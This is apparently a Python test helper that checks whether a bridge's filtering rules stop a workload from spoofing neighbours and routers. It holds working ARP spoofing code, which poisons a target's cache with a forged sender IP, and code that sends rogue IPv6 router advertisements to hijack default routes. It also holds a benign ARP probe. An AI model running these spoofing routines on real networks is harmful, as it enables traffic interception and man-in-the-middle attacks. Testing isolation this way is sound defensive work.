"""Impersonates neighbours and routers from a workload (the evasions the bridge table must stop)
and sends the ARP probe it must let through.

claim IFACE SENDER_IP TARGET_IP: broadcasts "who-has TARGET_IP tell SENDER_IP" with IFACE's
    MAC. The owner of TARGET_IP then believes SENDER_IP is at IFACE's MAC.
probe IFACE TARGET_IP: an RFC 5227 probe (sender 0.0.0.0); prints "reply" when TARGET_IP's
    owner answers within 2 s, else "none".
ra IFACE: sends an IPv6 router advertisement (router lifetime 1800 s) to all nodes from
    IFACE's link-local address; a neighbour that accepts it gets a default route via IFACE.
"""
import socket
import struct
import sys
import time

ETH_P_ARP = 0x0806


def request(src_mac, sender_ip, target_ip):
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, src_mac, socket.inet_aton(sender_ip),
                      b"\x00" * 6, socket.inet_aton(target_ip))
    return b"\xff" * 6 + src_mac + struct.pack("!H", ETH_P_ARP) + arp


def open_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
    s.bind((iface, ETH_P_ARP))
    return s, s.getsockname()[4]


def claim(iface, sender_ip, target_ip):
    s, mac = open_socket(iface)
    for _ in range(3):
        s.send(request(mac, sender_ip, target_ip))
        time.sleep(0.05)


def probe(iface, target_ip):
    s, mac = open_socket(iface)
    s.settimeout(0.2)
    s.send(request(mac, "0.0.0.0", target_ip))
    end = time.time() + 2
    while time.time() < end:
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        op, spa = struct.unpack("!H6x4s", frame[20:32])
        if op == 2 and spa == socket.inet_aton(target_ip):
            print("reply")
            return
    print("none")


def router_advertisement(iface):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    index = socket.if_nametoindex(iface)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    # type, code, checksum (the kernel fills it in), hop limit, flags, router lifetime,
    # reachable time, retransmission timer
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    for _ in range(3):
        s.sendto(ra, ("ff02::1", 0, 0, index))
        time.sleep(0.05)


if __name__ == "__main__":
    if sys.argv[1] == "claim":
        claim(sys.argv[2], sys.argv[3], sys.argv[4])
    elif sys.argv[1] == "probe":
        probe(sys.argv[2], sys.argv[3])
    else:
        router_advertisement(sys.argv[2])
